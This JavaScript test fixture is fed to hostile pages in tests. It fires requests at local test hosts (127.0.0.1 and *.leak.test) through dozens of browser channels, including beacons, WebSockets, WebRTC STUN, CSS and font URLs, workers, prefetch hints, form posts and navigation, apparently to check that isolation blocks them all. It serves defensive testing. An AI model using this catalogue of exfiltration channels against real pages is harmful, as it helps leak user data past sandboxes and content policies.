// Every way we know by which a script in a page could reach another address. Given to hostile pages by tests only.
// Each channel tries an address of its own: `http://127.0.0.1:PORT/name` and `http://name.leak.test:PORT/name`.
// Nothing here waits or checks: what arrived is counted at the other end.
(() => {
  const PORT = window.__leak.http;
  const STUN = window.__leak.stun;
  const targets = (name) => [`http://127.0.0.1:${PORT}/${name}`, `http://${name}.leak.test:${PORT}/${name}`];
  const add = (tag, set, home = document.body) => {
    const element = document.createElement(tag);
    set(element);
    home.append(element);
    return element;
  };
  const link = (rel, more = {}) => (url) => add('link', (it) => Object.assign(it, { rel, ...more, href: url }), document.head);
  const source = (tag, key = 'src', more = {}) => (url) => add(tag, (it) => Object.assign(it, { ...more, [key]: url }));
  const svg = (inner) => (url) => {
    const space = 'http://www.w3.org/2000/svg';
    const root = document.createElementNS(space, 'svg');
    const child = document.createElementNS(space, inner);
    child.setAttribute('href', url);
    child.setAttributeNS('http://www.w3.org/1999/xlink', 'href', url);
    root.append(child);
    document.body.append(root);
  };
  const style = (text) => (url) => add('style', (it) => (it.textContent = text(url)), document.head);
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const peer = (world, host) => {
    const connection = new world.RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${STUN}` }] });
    connection.createDataChannel('x');
    connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  };
  const stun = (url) => new URL(url).hostname;

  const quiet = {
    fetch: (url) => fetch(url, { mode: 'no-cors' }),
    keepalive: (url) => fetch(url, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    later: (url) => window.fetchLater?.(url, { activateAfter: 0 }),
    xhr: (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
    beacon: (url) => navigator.sendBeacon(url, 'x'),
    socket: (url) => new WebSocket(url.replace('http', 'ws')),
    events: (url) => new EventSource(url),
    transport: (url) => new window.WebTransport(url.replace('http:', 'https:')),
    image: source('img'),
    srcset: source('img', 'srcset'),
    picture: (url) => {
      const picture = add('picture', () => {});
      add('source', (it) => (it.srcset = url), picture);
      add('img', () => {}, picture);
    },
    audio: source('audio', 'src', { preload: 'auto' }),
    video: source('video', 'src', { preload: 'auto' }),
    poster: source('video', 'poster'),
    track: (url) => add('track', (it) => Object.assign(it, { src: url, default: true, kind: 'subtitles' }), add('video', () => {})).track,
    input: source('input', 'src', { type: 'image' }),
    script: source('script'),
    module: (url) => import(url),
    frame: source('iframe'),
    srcdoc: (url) => add('iframe', (it) => (it.srcdoc = `<img src="${url}">`)),
    blank: (url) => {
      const inner = add('iframe', () => {}).contentDocument;
      const image = inner.createElement('img');
      image.src = url;
      inner.body.append(image);
    },
    object: source('object', 'data'),
    embed: source('embed'),
    stylesheet: link('stylesheet'),
    preload: link('preload', { as: 'image' }),
    modulepreload: link('modulepreload'),
    prefetch: link('prefetch'),
    prerender: link('prerender'),
    preconnect: link('preconnect'),
    prelookup: link('dns-prefetch'),
    icon: link('icon'),
    manifest: link('manifest'),
    import: style((url) => `@import url("${url}");`),
    background: style((url) => `body { background: url("${url}") }`),
    adopted: (url) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`html { background: url("${url}") }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
    inline: (url) => add('div', (it) => (it.style.cssText = `width:9px;height:9px;background:url("${url}")`)),
    cursor: (url) => (document.documentElement.style.cursor = `url("${url}"), auto`),
    face: (url) => {
      const face = new FontFace('leak', `url("${url}")`);
      document.fonts.add(face);
      return face.load();
    },
    'svg-image': svg('image'),
    'svg-use': svg('use'),
    'svg-fe': svg('feImage'),
    worker: (url) => new Worker(url),
    shared: (url) => new SharedWorker(url),
    'blob-worker': (url) => new Worker(blob(`fetch(${JSON.stringify(url)},{mode:'no-cors'});importScripts(${JSON.stringify(url)})`)),
    registration: (url) => navigator.serviceWorker?.register(url),
    cache: async (url) => (await caches.open('leak')).add(new Request(url, { mode: 'no-cors' })),
    ping: (url) => add('a', (it) => Object.assign(it, { href: '#x', ping: url })).click(),
    speculation: (url) =>
      add('script', (it) => {
        it.type = 'speculationrules';
        it.text = JSON.stringify({ prefetch: [{ urls: [url] }], prerender: [{ urls: [url] }] });
      }, document.head),
    payment: (url) => new window.PaymentRequest([{ supportedMethods: url }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
    identity: (url) => navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: 'x' }] } }),
    notice: (url) => new Notification('x', { icon: url }),
    markup: (url) => add('div', (it) => (it.innerHTML = `<img src="${url}">`)),
    written: (url) => document.write(`<img src="${url}">`),
    stun: (url) => peer(window, stun(url)),
  };

  // These may take the page away, or end it, so each gets a page of its own.
  const loud = {
    location: (url) => (location.href = url),
    replace: (url) => location.replace(url),
    open: (url) => window.open(url),
    'open-alone': (url) => window.open(url, '_blank', 'noopener'),
    link: (url) => add('a', (it) => (it.href = url)).click(),
    'link-blank': (url) => add('a', (it) => Object.assign(it, { href: url, target: '_blank' })).click(),
    form: (url) => add('form', (it) => (it.action = url)).submit(),
    'form-blank': (url) => add('form', (it) => Object.assign(it, { action: url, target: '_blank' })).submit(),
    'form-frame': (url) => {
      add('iframe', (it) => (it.name = 'leak'));
      add('form', (it) => Object.assign(it, { action: url, target: 'leak', method: 'post' })).submit();
    },
    refresh: (url) => add('meta', (it) => Object.assign(it, { httpEquiv: 'refresh', content: `0;url=${url}` }), document.head),
    navigation: (url) => window.navigation.navigate(url),
    base: (url) => {
      add('base', (it) => (it.href = url), document.head);
      add('img', (it) => (it.src = 'from-base'));
    },
    'blank-stun': (url) => peer(add('iframe', () => {}).contentWindow, stun(url)),
  };

  const attempt = (channel, url) => {
    try {
      Promise.resolve(channel(url)).catch(() => {});
    } catch {
      // Refused at once: as good as it gets.
    }
  };
  window.__leak.quiet = Object.keys(quiet);
  window.__leak.loud = Object.keys(loud);
  window.__leak.try = (name) => targets(name).forEach((url) => attempt(quiet[name] ?? loud[name], url));
})();
